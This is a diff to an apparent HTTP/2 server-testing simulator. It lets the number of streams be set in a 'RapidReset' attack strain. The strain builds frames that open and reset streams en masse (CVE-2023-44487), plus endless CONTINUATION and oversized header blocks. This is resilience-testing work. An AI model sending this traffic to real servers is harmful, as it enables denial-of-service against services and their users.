@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import struct
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, ClassVar
 
 from simulator.attacks.script import Wire
 from simulator.attacks.strain import HOSTILE, Strain, refusing
@@ -46,13 +46,14 @@ class RapidReset(Strain):
     verdict = "closed, or taken for what they cost"
     anchor = "CVE-2023-44487; RFC 9113 §10.5"
     needs_http2 = True
+    streams: ClassVar[int] = RESET_STREAMS_MAX
 
     def held(self, context: ScriptContext) -> list[Wire]:
         """Open and reset as fast as it is read; the client is known by one address."""
         authority = context.host.encode()
         start = PREFACE + _frame(SETTINGS, 0, 0, b"")
         shots = (
-            (tuple(_streams(authority)), "so many streams are no client's"),
+            (tuple(_streams(authority, self.streams)), "so many streams are no client's"),
             ((_unfinished(authority),), "the block never ends"),
             ((_repeated(authority),), "its fields are more than a head may have"),
         )
@@ -99,11 +100,11 @@ def _repeated(authority: bytes) -> bytes:
     return b"".join(frames) + _frame(CONTINUATION, END_HEADERS, 1, b"")
 
 
-def _streams(authority: bytes) -> Iterator[bytes]:
-    """Write batches of streams, each opened and reset."""
+def _streams(authority: bytes, count: int) -> Iterator[bytes]:
+    """Write so many streams in batches, each opened and reset."""
     block = _head(authority)
     reset = struct.pack(">I", CANCEL)
-    for first in range(0, RESET_STREAMS_MAX, BATCH):
+    for first in range(0, count, BATCH):
         numbers = (2 * number + 1 for number in range(first, first + BATCH))
         yield b"".join(
             _frame(HEADERS, END_STREAM | END_HEADERS, number, block) + _frame(RST_STREAM, 0, number, reset)
